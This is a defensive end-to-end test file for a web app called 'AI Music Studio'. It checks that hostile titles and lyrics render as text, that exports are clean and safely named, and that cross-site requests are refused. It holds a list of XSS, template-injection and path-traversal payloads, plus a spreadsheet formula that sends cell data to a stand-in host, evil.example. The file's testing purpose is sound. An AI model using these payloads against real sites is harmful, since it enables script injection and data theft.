// What hostile people write is shown and exported as text, and what hostile pages send is refused.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { doorTo, evilPage, serve } from "./evil-page.mjs";
import { Stack } from "./stack.mjs";
import { assertQuiet, finished, launch, openStudio, SONG_TIMEOUT_MS } from "./studio.mjs";

const HOSTILE = [
  "<img src=x onerror=pwned()>",
  '"><svg onload=pwned()>',
  "</title></textarea><script>pwned()</script>",
  "javascript:pwned()//",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "{{constructor.constructor('pwned()')()}} ${pwned()}",
  "..\\..\\../../evil.exe",
  "[link](javascript:pwned()) \u202egnp.exe",
];
const SMUGGLED = `img[src="x"], svg[onload], [onerror], script:not([src]), iframe, object, embed,
  base, a[href^="javascript" i], a[href*="evil.example"]`;

/** Notices whatever runs that should not, and whatever the policy of the page had to stop. */
const WATCH = `
  window.ran = [];
  window.pwned = () => window.ran.push("code");
  document.addEventListener("securitypolicyviolation", (event) => window.ran.push(event.violatedDirective));`;

const apiOf = async (url) => {
  const { token } = await (await fetch(`${url}/api/v1/dev/token`)).json();
  return async (query, variables) => {
    const answer = await fetch(`${url}/graphql`, {
      method: "POST",
      headers: { "Content-Type": "application/json", Authorization: `Bearer ${token}` },
      body: JSON.stringify({ query, variables }),
    });
    const { data, errors } = await answer.json();
    assert.equal(errors, undefined, JSON.stringify(errors));
    return data;
  };
};

describe("hostile words and pages", { timeout: 400_000 }, () => {
  let stack;
  let browser;
  let api;
  let song;

  const start = async (input) => {
    const { started } = await api(
      `mutation($input: GenerateFullSongInput!) { started: generateFullSong(input: $input) {
        ... on ProjectStarted { project { id } } ... on Problem { message } } }`,
      { input },
    );
    assert.ok(started.project, started.message);
    return started.project.id;
  };

  const rename = (title) =>
    api(`mutation($id: ID!, $title: String!) { renameProject(id: $id, title: $title) { __typename } }`, {
      id: song,
      title,
    });

  /** A page that shows nothing but text, whatever is written on it. */
  const open = async () => {
    const studio = await openStudio(browser, stack.url);
    await studio.context.addInitScript(WATCH);
    studio.page.on("dialog", (dialog) => {
      studio.complaints.push(`dialog: ${dialog.message()}`);
      dialog.dismiss();
    });
    return studio;
  };

  const assertHarmless = async ({ page, complaints }) => {
    assert.deepEqual(await page.evaluate(() => window.ran), []);
    assert.deepEqual(
      await page.locator(SMUGGLED).evaluateAll((found) => found.map((one) => one.outerHTML)),
      [],
    );
    assertQuiet(complaints);
  };

  before(async () => {
    [stack, browser] = await Promise.all([Stack.start(), launch()]);
    api = await apiOf(stack.url);
    song = await start({
      prompt: `${HOSTILE[0]} ${HOSTILE[1]} a calm piano song`,
      title: HOSTILE[0],
      durationSeconds: 10,
      lyrics: { text: HOSTILE.slice(0, 6).join("\n") },
    });
    for (const title of HOSTILE.slice(1)) {
      const id = await start({ prompt: title, title });
      await api("mutation($id: ID!) { cancelProject(id: $id) { __typename } }", { id });
    }
    const ends = Date.now() + SONG_TIMEOUT_MS;
    const status = async () =>
      (await api("query($id: ID!) { project(id: $id) { status } }", { id: song })).project.status;
    while ((await status()) !== "COMPLETED") {
      assert.ok(Date.now() < ends, "the song was not finished in time");
      await pause(300);
    }
  });
  after(async () => {
    await browser?.close();
    await stack?.stop();
  });

  it("lists hostile titles as they are written", async () => {
    const studio = await open();
    const { context, page } = studio;
    for (const view of ["Show as a grid", "Show as a list"]) {
      await page.goto(`${stack.url}/library`);
      await page.getByRole("button", { name: view }).click();
      for (const title of HOSTILE) await page.getByRole("link", { name: title, exact: true }).waitFor();
      await assertHarmless(studio);
    }
    await page.getByLabel("Search songs").fill(HOSTILE[4]);
    await page.getByText("1 song found").waitFor();
    await page.goto(`${stack.url}/`);
    await page.getByText(HOSTILE.at(-1)).first().waitFor();
    await assertHarmless(studio);
    await page.goto(`${stack.url}/dashboard`);
    await page.getByRole("heading", { name: "What a song takes" }).waitFor();
    await assertHarmless(studio);
    await context.close();
  });

  it("asks and answers about hostile titles in words", async () => {
    const studio = await open();
    const { context, page } = studio;
    await page.goto(`${stack.url}/library`);
    await page.getByRole("button", { name: `More for ${HOSTILE[1]}`, exact: true }).click();
    await page.getByRole("menuitem", { name: "Rename" }).click();
    await page.getByLabel("New title").fill(`${HOSTILE[2]} again`);
    await page.keyboard.press("Enter");
    await page.getByRole("link", { name: `${HOSTILE[2]} again`, exact: true }).waitFor();
    await page.getByRole("button", { name: `More for ${HOSTILE[2]} again`, exact: true }).click();
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await page.getByRole("button", { name: "Undo" }).click();
    await assertHarmless(studio);

    await page.goto(`${stack.url}/api`);
    await page.getByLabel("What the key is for").fill(HOSTILE[0]);
    await page.getByRole("button", { name: "Make a key" }).click();
    await page.getByRole("list", { name: "API keys" }).getByText(HOSTILE[0], { exact: true }).waitFor();
    await assertHarmless(studio);

    await page.goto(`${stack.url}/`);
    await page.getByLabel("What should the song be?").fill(`${HOSTILE.join(" ")} at 95 bpm in A minor`);
    await page.getByText("95 BPM").waitFor();
    await assertHarmless(studio);
    await context.close();
  });

  it("shows a hostile song in every view", async () => {
    await rename(HOSTILE[2]);
    const studio = await open();
    const { context, page } = studio;
    for (const view of ["instruments", "notes", "score"]) {
      await page.goto(`${stack.url}/songs/${song}?view=${view}`);
      await page.getByRole("heading", { level: 1, name: HOSTILE[2], exact: true }).waitFor();
      await finished(page);
      if (view === "score") await page.waitForFunction(() => document.querySelector("[data-engraved]"));
      await assertHarmless(studio);
    }
    assert.equal(await page.title(), `${HOSTILE[2]} · AI Music Studio`);
    await context.close();
  });

  it("lets guests hear a hostile song, whatever it is called", async () => {
    const { done } = await api(
      "mutation($id: ID!) { done: shareProject(id: $id) { ... on ProjectShared { url } } }",
      { id: song },
    );
    const studio = await open();
    const { context, page } = studio;
    for (const title of HOSTILE) {
      await rename(title);
      await page.goto(`${stack.url}${done.url}`);
      await page.getByRole("heading", { level: 1, name: title, exact: true }).waitFor();
      assert.equal(await page.title(), `${title} · AI Music Studio`);
      await assertHarmless(studio);
    }
    await context.close();
  });

  it("gives files away that are what they are called, and nothing else", async () => {
    const { context, page } = await open();
    for (const title of HOSTILE) {
      await rename(title);
      await page.goto(`${stack.url}/songs/${song}`);
      await finished(page);
      const [file] = await Promise.all([
        page.waitForEvent("download"),
        page.getByRole("link", { name: /^MIDI/ }).first().click(),
      ]);
      assert.match(file.suggestedFilename(), /^[^\\/<>:"|?*]+\.mid$/);
    }
    const { project } = await api(
      `query($id: ID!) { project(id: $id) { song { musicXmlUrl lrcUrl downloads { format url } } } }`,
      { id: song },
    );
    const { musicXmlUrl, lrcUrl, downloads } = project.song;
    const score = await (await fetch(`${stack.url}${musicXmlUrl}`)).text();
    const { faults, names, title } = await page.evaluate((text) => {
      const parsed = new DOMParser().parseFromString(text, "application/xml");
      return {
        faults: parsed.querySelectorAll("parsererror").length,
        names: [...new Set([...parsed.querySelectorAll("*")].map((one) => one.localName))],
        title: parsed.querySelector("work-title, movement-title")?.textContent,
      };
    }, score);
    assert.deepEqual([faults, names.filter((one) => /^(img|svg|script|a|iframe)$/.test(one))], [0, []]);
    assert.equal(title, HOSTILE[0]);
    const words = await (await fetch(`${stack.url}${lrcUrl}`)).text();
    assert.ok(words.split("\n").every((line) => line === "" || line.startsWith("[")), words);
    const zip = downloads.find(({ format }) => format === "WAV_ZIP");
    const packed = Buffer.from(await (await fetch(`${stack.url}${zip.url}`)).arrayBuffer());
    const members = [...packed.toString("latin1").matchAll(/PK\x01\x02[\s\S]{42}(\d\d [^\x00]+?\.wav)/g)];
    assert.ok(members.length > 0);
    for (const [, name] of members) assert.match(name, /^\d\d [^\\/<>:"|?*]+\.wav$/);
    await context.close();
  });

  it("answers nothing that a page of others makes the browser ask", async () => {
    const answers = new Map();
    const door = await doorTo(stack.url, (url, status) => answers.set(url.searchParams.get("by"), status));
    const evil = await serve((_request, response) => {
      response.setHeader("Content-Type", "text/html");
      response.end(evilPage(door.url));
    });
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      await page.goto(evil.url.replace("127.0.0.1", "localhost"));
      const expected =
        "style script module img iframe video object form post fetch simple header events beacon".split(" ");
      for (let looks = 0; looks < 150 && !expected.every((by) => answers.has(by)); looks += 1) {
        await pause(100);
      }
      for (const by of expected) {
        assert.ok([400, 403].includes(answers.get(by)), `${by}: ${answers.get(by) ?? "has not asked"}`);
      }
    } finally {
      await context.close();
      door.close();
      evil.close();
    }
  });
});
